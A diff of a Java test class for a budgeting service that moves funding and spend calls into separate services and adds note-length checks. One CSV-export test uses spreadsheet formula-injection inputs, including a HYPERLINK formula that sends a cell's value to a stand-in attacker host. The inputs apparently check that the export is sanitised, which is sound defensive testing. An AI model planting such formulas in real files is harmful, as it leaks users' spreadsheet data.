@@ -34,6 +34,12 @@ class BudgetServiceTest {
     BudgetService budget;
 
     @Inject
+    FundingService funds;
+
+    @Inject
+    SpendService spending;
+
+    @Inject
     ComputeBudgetService compute;
 
     @Inject
@@ -53,12 +59,12 @@ class BudgetServiceTest {
         clock.reset();
     }
 
-    static BudgetService.FundingForm funding(String amount, LocalDate on) {
-        return new BudgetService.FundingForm(FundingKind.ANGEL, new BigDecimal(amount), "USD", on, "seed");
+    static FundingService.FundingForm funding(String amount, LocalDate on) {
+        return new FundingService.FundingForm(FundingKind.ANGEL, new BigDecimal(amount), "USD", on, "seed");
     }
 
-    static BudgetService.ActualForm spend(SpendCategory category, String amount, LocalDate on) {
-        return new BudgetService.ActualForm(on, category, new BigDecimal(amount), "", null);
+    static SpendService.ActualForm spend(SpendCategory category, String amount, LocalDate on) {
+        return new SpendService.ActualForm(on, category, new BigDecimal(amount), "", null);
     }
 
     @Test
@@ -67,10 +73,10 @@ class BudgetServiceTest {
         LocalDate today = budget.today();
         YearMonth month = YearMonth.from(today);
         as(owner, () -> {
-            budget.addFunding(funding("10000", month.minusMonths(4).atDay(1)));
-            budget.addActual(spend(SpendCategory.PEOPLE, "900", month.minusMonths(3).atDay(1)));
-            budget.addActual(spend(SpendCategory.COMPUTE, "1200.00", month.minusMonths(2).atDay(28)));
-            budget.addActual(spend(SpendCategory.MARKETING, "1500.0", month.minusMonths(1).atEndOfMonth()));
+            funds.addFunding(funding("10000", month.minusMonths(4).atDay(1)));
+            spending.addActual(spend(SpendCategory.PEOPLE, "900", month.minusMonths(3).atDay(1)));
+            spending.addActual(spend(SpendCategory.COMPUTE, "1200.00", month.minusMonths(2).atDay(28)));
+            spending.addActual(spend(SpendCategory.MARKETING, "1500.0", month.minusMonths(1).atEndOfMonth()));
         });
 
         BudgetService.Summary now = as(owner, budget::summary);
@@ -104,13 +110,13 @@ class BudgetServiceTest {
         Actor billing = fixture.member(fixture.company(), Role.BILLING);
         YearMonth month = YearMonth.from(budget.today());
         as(billing, () -> {
-            budget.savePlan(month, Map.of(SpendCategory.COMPUTE, new BigDecimal("500"),
+            spending.savePlan(month, Map.of(SpendCategory.COMPUTE, new BigDecimal("500"),
                     SpendCategory.PEOPLE, new BigDecimal("2000.00")));
-            budget.addActual(spend(SpendCategory.COMPUTE, "620.00", month.atDay(1)));
-            budget.savePlan(month, Map.of(SpendCategory.PEOPLE, BigDecimal.ZERO));
+            spending.addActual(spend(SpendCategory.COMPUTE, "620.00", month.atDay(1)));
+            spending.savePlan(month, Map.of(SpendCategory.PEOPLE, BigDecimal.ZERO));
         });
-        assertThat(as(billing, () -> budget.plan(month))).containsOnlyKeys(SpendCategory.COMPUTE);
-        assertThat(as(billing, () -> budget.planVsActual(month))).first().satisfies(row -> {
+        assertThat(as(billing, () -> spending.plan(month))).containsOnlyKeys(SpendCategory.COMPUTE);
+        assertThat(as(billing, () -> spending.planVsActual(month))).first().satisfies(row -> {
             assertThat(row.planned()).isEqualTo(new BigDecimal("500.00"));
             assertThat(row.actual()).isEqualTo(new BigDecimal("620.00"));
             assertThat(row.left()).isEqualTo(new BigDecimal("-120.00"));
@@ -126,25 +132,25 @@ class BudgetServiceTest {
         assertThat(posted.getAmount()).isEqualByComparingTo("0.13");
         assertThat(posted.getSource()).isEqualTo(SpendSource.BILLING);
         assertThat(again.getId()).isEqualTo(posted.getId());
-        assertThat(as(owner, () -> budget.actuals(null))).hasSize(1);
-        assertThatThrownBy(() -> as(owner, () -> budget.updateActual(posted.getId(),
+        assertThat(as(owner, () -> spending.actuals(null))).hasSize(1);
+        assertThatThrownBy(() -> as(owner, () -> spending.updateActual(posted.getId(),
                 spend(SpendCategory.COMPUTE, "0.01", budget.today()))))
                 .isInstanceOf(BadInputException.class).hasMessageContaining("read-only");
-        assertThatThrownBy(() -> as(owner, () -> budget.deleteActual(posted.getId())))
+        assertThatThrownBy(() -> as(owner, () -> spending.deleteActual(posted.getId())))
                 .isInstanceOf(BadInputException.class).hasMessageContaining("read-only");
-        assertThat(as(owner, () -> budget.actuals(null))).singleElement()
+        assertThat(as(owner, () -> spending.actuals(null))).singleElement()
                 .satisfies(a -> assertThat(a.getAmount()).isEqualByComparingTo("0.13"));
     }
 
     @Test
     void manual_entries_can_be_changed_and_deleted_with_an_audit_trail() {
         Actor owner = fixture.company().owner();
-        ActualSpend entry = as(owner, () -> budget.addActual(spend(SpendCategory.OTHER, "10", budget.today())));
-        as(owner, () -> budget.updateActual(entry.getId(), spend(SpendCategory.PEOPLE, "12.50", budget.today())));
-        assertThat(as(owner, () -> budget.actuals(null))).singleElement()
+        ActualSpend entry = as(owner, () -> spending.addActual(spend(SpendCategory.OTHER, "10", budget.today())));
+        as(owner, () -> spending.updateActual(entry.getId(), spend(SpendCategory.PEOPLE, "12.50", budget.today())));
+        assertThat(as(owner, () -> spending.actuals(null))).singleElement()
                 .satisfies(a -> assertThat(a.getAmount()).isEqualTo(new BigDecimal("12.50")));
-        as(owner, () -> budget.deleteActual(entry.getId()));
-        assertThat(as(owner, () -> budget.actuals(null))).isEmpty();
+        as(owner, () -> spending.deleteActual(entry.getId()));
+        assertThat(as(owner, () -> spending.actuals(null))).isEmpty();
         assertThat(as(owner, () -> audit.list("", ""))).extracting(AuditEvent::getKind)
                 .contains("budget.spend_added", "budget.spend_updated", "budget.spend_deleted");
     }
@@ -154,9 +160,9 @@ class BudgetServiceTest {
         TenancyFixture.Company company = fixture.company();
         for (Role role : new Role[] {Role.VIEWER, Role.ENGINEER, Role.ANALYST}) {
             Actor member = fixture.member(company, role);
-            refused(member, () -> budget.addFunding(funding("100", budget.today())));
-            refused(member, () -> budget.addActual(spend(SpendCategory.OTHER, "1", budget.today())));
-            refused(member, () -> budget.savePlan(YearMonth.from(budget.today()),
+            refused(member, () -> funds.addFunding(funding("100", budget.today())));
+            refused(member, () -> spending.addActual(spend(SpendCategory.OTHER, "1", budget.today())));
+            refused(member, () -> spending.savePlan(YearMonth.from(budget.today()),
                     Map.of(SpendCategory.OTHER, BigDecimal.ONE)));
             refused(member, () -> budget.changeCurrency("EUR"));
             refused(member, () -> compute.saveComputeBudget(
@@ -166,7 +172,7 @@ class BudgetServiceTest {
         }
         for (Role role : new Role[] {Role.BILLING, Role.ADMIN}) {
             Actor member = fixture.member(company, role);
-            assertThat(as(member, () -> budget.addFunding(funding("100", budget.today()))).getId()).isNotNull();
+            assertThat(as(member, () -> funds.addFunding(funding("100", budget.today()))).getId()).isNotNull();
         }
     }
 
@@ -174,22 +180,26 @@ class BudgetServiceTest {
     void bad_amounts_dates_and_categories_are_refused_at_their_field() {
         Actor owner = fixture.company().owner();
         LocalDate today = budget.today();
-        badInput(owner, "amount", "above zero", () -> budget.addFunding(funding("-5", today)));
-        badInput(owner, "amount", "above zero", () -> budget.addFunding(funding("0", today)));
-        badInput(owner, "amount", "at most 2 decimals", () -> budget.addFunding(funding("10.001", today)));
-        badInput(owner, "amount", "Enter an amount", () -> budget.addFunding(
-                new BudgetService.FundingForm(FundingKind.GRANT, null, "USD", today, "")));
-        badInput(owner, "receivedOn", "future", () -> budget.addFunding(funding("5", today.plusDays(1))));
-        badInput(owner, "kind", "kind", () -> budget.addFunding(
-                new BudgetService.FundingForm(null, BigDecimal.ONE, "USD", today, "")));
-        badInput(owner, "category", "category", () -> budget.addActual(
-                new BudgetService.ActualForm(today, null, BigDecimal.ONE, "", null)));
-        badInput(owner, "amount", "above zero", () -> budget.addActual(spend(SpendCategory.OTHER, "-1", today)));
-        badInput(owner, "PEOPLE", "zero or a positive", () -> budget.savePlan(YearMonth.from(today),
+        badInput(owner, "amount", "above zero", () -> funds.addFunding(funding("-5", today)));
+        badInput(owner, "amount", "above zero", () -> funds.addFunding(funding("0", today)));
+        badInput(owner, "amount", "at most 2 decimals", () -> funds.addFunding(funding("10.001", today)));
+        badInput(owner, "amount", "Enter an amount", () -> funds.addFunding(
+                new FundingService.FundingForm(FundingKind.GRANT, null, "USD", today, "")));
+        badInput(owner, "receivedOn", "future", () -> funds.addFunding(funding("5", today.plusDays(1))));
+        badInput(owner, "kind", "kind", () -> funds.addFunding(
+                new FundingService.FundingForm(null, BigDecimal.ONE, "USD", today, "")));
+        badInput(owner, "category", "category", () -> spending.addActual(
+                new SpendService.ActualForm(today, null, BigDecimal.ONE, "", null)));
+        badInput(owner, "note", "under 500 characters", () -> funds.addFunding(
+                new FundingService.FundingForm(FundingKind.GRANT, BigDecimal.ONE, "USD", today, "n".repeat(501))));
+        badInput(owner, "note", "under 500 characters", () -> spending.addActual(
+                new SpendService.ActualForm(today, SpendCategory.OTHER, BigDecimal.ONE, "n".repeat(501), null)));
+        badInput(owner, "amount", "above zero", () -> spending.addActual(spend(SpendCategory.OTHER, "-1", today)));
+        badInput(owner, "PEOPLE", "zero or a positive", () -> spending.savePlan(YearMonth.from(today),
                 Map.of(SpendCategory.PEOPLE, new BigDecimal("-1"))));
         Map<SpendCategory, BigDecimal> unknown = new HashMap<>();
         unknown.put(null, BigDecimal.ONE);
-        badInput(owner, "category", "Choose a category", () -> budget.savePlan(YearMonth.from(today), unknown));
+        badInput(owner, "category", "Choose a category", () -> spending.savePlan(YearMonth.from(today), unknown));
         badInput(owner, "amount", "above zero",
                 () -> budget.recordComputeSpend(null, BigDecimal.ZERO, null, "k"));
         badInput(owner, "idempotencyKey", "idempotency key",
@@ -203,16 +213,16 @@ class BudgetServiceTest {
         LocalDate today = budget.today();
         assertThat(as(owner, budget::currency)).isEqualTo(Currency.getInstance("USD"));
         badInput(owner, "currency", "not a currency code", () -> budget.changeCurrency("XYZ"));
-        badInput(owner, "currency", "not a currency code", () -> budget.addFunding(
-                new BudgetService.FundingForm(FundingKind.VENTURE, BigDecimal.TEN, "ZZZ", today, "")));
+        badInput(owner, "currency", "not a currency code", () -> funds.addFunding(
+                new FundingService.FundingForm(FundingKind.VENTURE, BigDecimal.TEN, "ZZZ", today, "")));
 
         assertThat(as(owner, () -> budget.changeCurrency("jpy"))).isEqualTo(Currency.getInstance("JPY"));
-        badInput(owner, "amount", "no decimals", () -> budget.addFunding(
-                new BudgetService.FundingForm(FundingKind.VENTURE, new BigDecimal("10.5"), "JPY", today, "")));
-        badInput(owner, "currency", "books in JPY", () -> budget.addFunding(
-                new BudgetService.FundingForm(FundingKind.VENTURE, BigDecimal.TEN, "EUR", today, "")));
-        as(owner, () -> budget.addFunding(
-                new BudgetService.FundingForm(FundingKind.VENTURE, new BigDecimal("5000000"), "JPY", today, "")));
+        badInput(owner, "amount", "no decimals", () -> funds.addFunding(
+                new FundingService.FundingForm(FundingKind.VENTURE, new BigDecimal("10.5"), "JPY", today, "")));
+        badInput(owner, "currency", "books in JPY", () -> funds.addFunding(
+                new FundingService.FundingForm(FundingKind.VENTURE, BigDecimal.TEN, "EUR", today, "")));
+        as(owner, () -> funds.addFunding(
+                new FundingService.FundingForm(FundingKind.VENTURE, new BigDecimal("5000000"), "JPY", today, "")));
 
         badInput(owner, "currency", "only while nothing is recorded", () -> budget.changeCurrency("USD"));
         assertThat(as(owner, budget::summary).cashOnHand()).isEqualTo(new BigDecimal("5000000"));
@@ -222,11 +232,11 @@ class BudgetServiceTest {
     void funding_can_be_corrected_with_an_audit_trail() {
         TenancyFixture.Company company = fixture.company();
         Actor owner = company.owner();
-        FundingSource seed = as(owner, () -> budget.addFunding(new BudgetService.FundingForm(FundingKind.ANGEL,
+        FundingSource seed = as(owner, () -> funds.addFunding(new FundingService.FundingForm(FundingKind.ANGEL,
                 new BigDecimal("50000"), "USD", budget.today(), "seed")));
-        as(owner, () -> budget.updateFunding(seed.getId(), new BudgetService.FundingForm(FundingKind.VENTURE,
+        as(owner, () -> funds.updateFunding(seed.getId(), new FundingService.FundingForm(FundingKind.VENTURE,
                 new BigDecimal("52500.50"), "USD", budget.today().minusDays(3), "seed, corrected")));
-        assertThat(as(owner, () -> budget.funding())).singleElement().satisfies(f -> {
+        assertThat(as(owner, () -> funds.funding())).singleElement().satisfies(f -> {
             assertThat(f.getKind()).isEqualTo(FundingKind.VENTURE);
             assertThat(f.getAmount()).isEqualByComparingTo("52500.50");
             assertThat(f.getNote()).isEqualTo("seed, corrected");
@@ -234,10 +244,10 @@ class BudgetServiceTest {
         assertThat(as(owner, () -> budget.summary()).cashOnHand()).isEqualByComparingTo("52500.50");
         assertThat(as(owner, () -> audit.list("", ""))).extracting(AuditEvent::getKind)
                 .contains("budget.funding_added", "budget.funding_updated");
-        badInput(owner, "amount", "above zero", () -> budget.updateFunding(seed.getId(),
-                new BudgetService.FundingForm(FundingKind.VENTURE, BigDecimal.ZERO, "USD", budget.today(), "")));
+        badInput(owner, "amount", "above zero", () -> funds.updateFunding(seed.getId(),
+                new FundingService.FundingForm(FundingKind.VENTURE, BigDecimal.ZERO, "USD", budget.today(), "")));
         Actor viewer = fixture.member(company, Role.VIEWER);
-        refused(viewer, () -> budget.updateFunding(seed.getId(), new BudgetService.FundingForm(FundingKind.GRANT,
+        refused(viewer, () -> funds.updateFunding(seed.getId(), new FundingService.FundingForm(FundingKind.GRANT,
                 BigDecimal.ONE, "USD", budget.today(), "")));
     }
 
@@ -247,9 +257,9 @@ class BudgetServiceTest {
         Actor owner = company.owner();
         long project = as(owner, () -> projects.create(new ProjectService.ProjectForm("@SUM(A1:A9)", "", "", false))
                 .getId());
-        as(owner, () -> budget.addFunding(new BudgetService.FundingForm(FundingKind.GRANT, new BigDecimal("1000"),
+        as(owner, () -> funds.addFunding(new FundingService.FundingForm(FundingKind.GRANT, new BigDecimal("1000"),
                 "USD", budget.today(), "=HYPERLINK(\"https://evil.example/?\"&A1,\"details\")")));
-        as(owner, () -> budget.addActual(new BudgetService.ActualForm(budget.today(), SpendCategory.PEOPLE,
+        as(owner, () -> spending.addActual(new SpendService.ActualForm(budget.today(), SpendCategory.PEOPLE,
                 new BigDecimal("250.25"), "+1-2", project)));
         String csv = as(owner, () -> budget.exportCsv());
         assertThat(csv.lines().skip(1).toList()).containsExactly(
@@ -262,11 +272,11 @@ class BudgetServiceTest {
     void the_budget_exports_funding_plan_and_spend_as_csv_for_spreadsheets() {
         TenancyFixture.Company company = fixture.company();
         Actor owner = company.owner();
-        as(owner, () -> budget.addFunding(new BudgetService.FundingForm(FundingKind.GRANT, new BigDecimal("1000"),
+        as(owner, () -> funds.addFunding(new FundingService.FundingForm(FundingKind.GRANT, new BigDecimal("1000"),
                 "USD", budget.today(), "EU grant · “Horizon”, phase 1")));
-        as(owner, () -> budget.savePlan(YearMonth.from(budget.today()), Map.of(SpendCategory.PEOPLE,
+        as(owner, () -> spending.savePlan(YearMonth.from(budget.today()), Map.of(SpendCategory.PEOPLE,
                 new BigDecimal("400"))));
-        as(owner, () -> budget.addActual(new BudgetService.ActualForm(budget.today(), SpendCategory.PEOPLE,
+        as(owner, () -> spending.addActual(new SpendService.ActualForm(budget.today(), SpendCategory.PEOPLE,
                 new BigDecimal("250.25"), "contractor", null)));
         String csv = as(owner, () -> budget.exportCsv());
         assertThat(csv).startsWith("\uFEFFrecord,date,kind_or_category,amount,currency,project,source,note");
